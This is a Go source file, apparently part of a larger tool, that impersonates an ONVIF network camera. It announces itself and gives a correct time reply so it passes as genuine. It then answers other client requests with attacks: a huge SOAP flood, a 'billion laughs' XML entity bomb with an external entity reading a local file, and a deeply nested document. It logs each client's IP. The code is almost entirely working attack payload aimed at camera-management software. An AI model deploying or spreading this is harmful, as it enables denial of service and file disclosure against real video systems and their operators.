package main

import (
	"fmt"
	"io"
	"net/http"
	"os"
	"strings"
	"time"
)

const (
	envelope = `<?xml version="1.0" encoding="UTF-8"?><s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" ` +
		`xmlns:tds="http://www.onvif.org/ver10/device/wsdl" xmlns:tt="http://www.onvif.org/ver10/schema" ` +
		`xmlns:ter="http://www.onvif.org/ver10/error"><s:Body>`
	envelopeEnd = `</s:Body></s:Envelope>`
	denied      = envelope + `<s:Fault><s:Code><s:Value>s:Sender</s:Value><s:Subcode><s:Value>ter:NotAuthorized</s:Value></s:Subcode></s:Code>` +
		`<s:Reason><s:Text xml:lang="en">Sender not authorized</s:Text></s:Reason></s:Fault>` + envelopeEnd
	// bombed grows to 10^9 "lol" where entities are expanded.
	bombed = `<?xml version="1.0"?><!DOCTYPE b [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">` +
		`<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">` +
		`<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">` +
		`<!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">` +
		`<!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;"><!ENTITY j SYSTEM "file:///etc/hostname">]>` +
		`<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body>` +
		`<GetDeviceInformationResponse><Manufacturer>&i;&j;</Manufacturer></GetDeviceInformationResponse></s:Body></s:Envelope>`
)

// clock is a right answer to GetSystemDateAndTime: who reads no further takes us for a camera.
func clock() string {
	t := time.Now().UTC()
	return fmt.Sprintf(envelope+`<tds:GetSystemDateAndTimeResponse><tds:SystemDateAndTime><tt:DateTimeType>NTP</tt:DateTimeType>`+
		`<tt:DaylightSavings>false</tt:DaylightSavings><tt:UTCDateTime><tt:Time><tt:Hour>%d</tt:Hour><tt:Minute>%d</tt:Minute>`+
		`<tt:Second>%d</tt:Second></tt:Time><tt:Date><tt:Year>%d</tt:Year><tt:Month>%d</tt:Month><tt:Day>%d</tt:Day></tt:Date>`+
		`</tt:UTCDateTime></tds:SystemDateAndTime></tds:GetSystemDateAndTimeResponse>`+envelopeEnd,
		t.Hour(), t.Minute(), t.Second(), t.Year(), t.Month(), t.Day())
}

func camerasXAddr(ip string) string { return "http://" + ip + "/onvif/device_service" }

// playSOAP announces a camera, tells its clock as it should, and answers everything else with harm.
func playSOAP(f flags) error {
	harm := soapFlood
	if f.what == "bomb" {
		harm = soapBomb
	}
	return all(
		func() error { return announce(f.ip, 1, camerasXAddr(f.ip)) },
		func() error { return web(":80", harm) },
	)
}

// web is an HTTP server that tells the clock and leaves the rest to then.
func web(address string, then func(w http.ResponseWriter, r *http.Request, body string)) error {
	s := http.Server{Addr: address, ReadTimeout: harmTime, WriteTimeout: harmTime, MaxHeaderBytes: mostRequest,
		Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			body, _ := io.ReadAll(io.LimitReader(r.Body, mostRequest))
			w.Header().Set("Content-Type", "application/soap+xml; charset=utf-8")
			if strings.Contains(string(body), "GetSystemDateAndTime") {
				_, _ = io.WriteString(w, clock())
				return
			}
			then(w, r, string(body))
		})}
	return s.ListenAndServe()
}

func soapFlood(w http.ResponseWriter, r *http.Request, _ string) {
	begun, sent := time.Now(), 0
	chunk := strings.Repeat("a", 32<<10)
	_, err := io.WriteString(w, envelope+"<tds:GetDeviceInformationResponse><tds:Manufacturer>")
	for err == nil && sent < soapBytes {
		var n int
		n, err = io.WriteString(w, chunk)
		sent += n
	}
	_, _ = io.WriteString(w, "</tds:Manufacturer></tds:GetDeviceInformationResponse>"+envelopeEnd)
	told("SENT", r, sent, "bytes in", time.Since(begun).Round(time.Millisecond))
}

// soapBomb answers questions in turn with a document type that grows, and with a document that is deep.
func soapBomb(w http.ResponseWriter, r *http.Request, body string) {
	if strings.Contains(body, "GetDeviceInformation") {
		_, _ = io.WriteString(w, bombed)
		told("BOMB", r, "entities")
		return
	}
	sent := 0
	_, err := io.WriteString(w, envelope)
	for open := strings.Repeat("<a>", 1000); err == nil && sent < nesting; sent += 1000 {
		_, err = io.WriteString(w, open)
	}
	told("BOMB", r, sent, "elements deep")
}

// told is note for HTTP.
func told(what string, r *http.Request, more ...any) {
	fmt.Fprintf(os.Stderr, "%d %s peer=%s %s\n", time.Now().Unix(), what, strings.Split(r.RemoteAddr, ":")[0],
		strings.TrimSpace(fmt.Sprintln(more...)))
}
